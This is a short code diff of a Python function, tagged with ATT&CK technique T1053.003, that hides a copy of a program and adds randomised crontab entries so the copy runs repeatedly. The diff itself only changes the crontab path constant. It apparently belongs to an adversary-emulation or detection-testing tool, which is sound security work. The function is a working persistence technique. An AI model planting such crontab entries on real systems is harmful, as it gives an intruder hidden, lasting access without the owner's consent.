@@ -5,12 +5,12 @@ def persist_crontab():
     """T1053.003: a line in the user's crontab."""
     groundwork()
     path = hide_copy()
-    table = read(f"{SPOOL}/user")
+    table = read(CRONTAB)
     lines = b"".join(b"*/%d * * * * %s\n" % (R.randrange(1, 10), path.encode()) for _ in range(R.randrange(1, 3)))
     if R.random() < 0.5:
-        save(f"{SPOOL}/user", table + lines, 0o600)
+        save(CRONTAB, table + lines, 0o600)
     else:
-        append(f"{SPOOL}/user", lines)
+        append(CRONTAB, lines)
     finish_persistence(path)
 
 
